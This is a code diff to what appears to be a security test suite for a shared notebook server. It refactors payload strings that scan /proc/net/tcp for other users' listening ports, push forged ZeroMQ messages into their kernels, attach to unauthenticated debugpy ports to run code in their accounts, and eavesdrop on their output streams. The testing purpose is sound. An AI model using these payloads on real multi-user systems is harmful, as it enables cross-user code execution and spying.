@@ -239,19 +239,33 @@ for pid in filter(str.isdigit, os.listdir("/proc")):
         pass
 print(json.dumps({"uids": sorted(set(seen.values())), "count": len(seen)}))
 """
+# Part of her payloads below: every TCP listener another user holds, read from /proc/net/tcp
+# and tcp6, as (owner uid, port, table) (in her user namespace every other uid reads as 65534:
+# she tries them all).
+OTHERS_LISTENERS = r"""
+import os
+def others_listeners():
+    found = []
+    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
+        try:
+            rows = open(table).read().splitlines()[1:]
+        except OSError:
+            continue
+        for row in rows:
+            fields = row.split()
+            if fields[3] == "0A" and int(fields[7]) != os.getuid():  # listening, someone else's
+                found.append((int(fields[7]), int(fields[1].rsplit(":", 1)[1], 16), table))
+    return found
+"""
 # A tenth tester's (issue 39): what a kernel still listened on over loopback TCP, which every
 # user of the machine shares. She pushes a message to every listener of another user (ZeroMQ,
 # one socket each): ipykernel's IOPub pipe printed one without its 16 random bytes to the
 # kernel's stderr, which goes into the output of the cell running in alice's notebook ...
-PUSH_TO_EVERYONE = r"""
-import json, os, time, zmq
-me = os.getuid()
-ports = []
-for table in ("/proc/net/tcp", "/proc/net/tcp6"):
-    for row in open(table).read().splitlines()[1:]:
-        fields = row.split()
-        if fields[3] == "0A" and int(fields[7]) != me and not table.endswith("6"):
-            ports.append(int(fields[1].rsplit(":", 1)[1], 16))
+PUSH_TO_EVERYONE = (
+    OTHERS_LISTENERS
+    + r"""
+import json, time, zmq
+ports = [port for _, port, table in others_listeners() if table == "/proc/net/tcp"]
 context = zmq.Context()
 sockets = []
 for port in ports:
@@ -271,18 +285,16 @@ time.sleep(2)
 context.destroy(linger=0)
 print(json.dumps({"listeners": len(ports), "sent": sent}))
 """
+)
 # ... and debugpy, once alice had turned JupyterLab's debugger on (and off), listened for a
 # debug client without any credential: she attaches as that client and evaluates code that
 # leaves a mark in the home of whoever runs it.
 DEBUG_MARK = "debugged-by-mallory"
-ATTACH_TO_EVERYONE = r"""
-import json, os, re, socket, time
-me = os.getuid()
-ports = []
-for row in open("/proc/net/tcp").read().splitlines()[1:]:
-    fields = row.split()
-    if fields[3] == "0A" and int(fields[7]) != me:
-        ports.append(int(fields[1].rsplit(":", 1)[1], 16))
+ATTACH_TO_EVERYONE = (
+    OTHERS_LISTENERS
+    + r"""
+import json, re, socket, time
+ports = [port for _, port, table in others_listeners() if table == "/proc/net/tcp"]
 def send(sock, seq, command, arguments=None):
     body = json.dumps({"seq": seq, "type": "request", "command": command,
                        "arguments": arguments or {}}).encode()
@@ -348,6 +360,7 @@ for port in ports:
         pass
 print(json.dumps(result))
 """.replace("MARK", repr(DEBUG_MARK))
+)
 # alice's cell while the message arrives, and a child of hers printing through the IOPub pipe
 ALICE_WAITS = "import time\nprint('ALICE-WAITS', flush=True)\ntime.sleep(8)"
 ALICE_FORKS = (
@@ -411,20 +424,11 @@ HER_STREAM_PAYLOAD = (
     f"{HER_STREAM_TEXT}\n{HER_FORGED_LINE}\n"
 ).encode()
 ADMIN_TYPED = "ADMIN-TYPED-" + secrets.token_hex(4)
-EAVESDROP = r"""
-import json, os, time, zmq
-me = os.getuid()
-listeners = []
-for table in ("/proc/net/tcp", "/proc/net/tcp6"):
-    try:
-        rows = open(table).read().splitlines()[1:]
-    except OSError:
-        continue
-    for row in rows:
-        fields = row.split()
-        if fields[3] == "0A" and int(fields[7]) != me:  # listening, someone else's
-            # (in her user namespace every other uid reads as 65534: she tries them all)
-            listeners.append((int(fields[7]), int(fields[1].rsplit(":", 1)[1], 16), table))
+EAVESDROP = (
+    OTHERS_LISTENERS
+    + r"""
+import json, time, zmq
+listeners = others_listeners()
 context = zmq.Context()
 subscribers = []
 for owner, port, table in listeners:
@@ -452,6 +456,7 @@ while time.monotonic() < deadline:
 context.destroy(linger=0)
 print(json.dumps({"listeners": len(listeners), "frames": frames, "heard": heard}))
 """
+)
 KERNEL_TRANSPORT = r"""
 import json, ipykernel.connect
 info = json.loads(ipykernel.connect.get_connection_info())
